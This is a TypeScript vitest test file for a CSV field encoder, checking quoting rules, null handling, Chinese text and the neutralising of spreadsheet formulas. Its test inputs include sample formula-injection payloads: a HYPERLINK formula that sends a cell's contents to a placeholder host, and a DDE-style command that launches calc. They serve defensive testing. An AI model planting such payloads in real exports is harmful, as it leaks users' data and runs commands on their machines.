// The one CSV field encoder: RFC 4180 quoting, NULL apart from the empty string, Chinese text untouched, and
// text a spreadsheet would run as a formula written as text.
import { describe, expect, it } from 'vitest';
import { csvField, type CsvValue } from './csv-field.ts';

describe('csvField', () => {
  it.each<{ name: string; value: CsvValue; out: string }>([
    { name: 'plain text stays bare', value: '龙沙区', out: '龙沙区' },
    { name: 'a comma forces quotes', value: '建华区,东', out: '"建华区,东"' },
    { name: 'quotes are doubled inside quotes', value: 'say "hi"', out: '"say ""hi"""' },
    { name: 'a line feed forces quotes', value: 'a\nb', out: '"a\nb"' },
    { name: 'a full-width comma needs none', value: '铁锋区，南', out: '铁锋区，南' },
    { name: 'NULL is the empty field', value: null, out: '' },
    { name: 'the empty string is an empty quoted field', value: '', out: '""' },
    { name: 'numbers print as JSON does, a negative one unprefixed', value: -1234.5, out: '-1234.5' },
    { name: 'booleans print as words', value: false, out: 'false' },
  ])('$name', ({ value, out }) => {
    expect(csvField(value)).toBe(out);
  });

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('writes text a spreadsheet would run as a formula as text: %j', (value, out) => {
    expect(csvField(value)).toBe(out);
  });

  it('leaves a formula character alone when it is not the first', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('龙沙区-东')).toBe('龙沙区-东');
  });
});
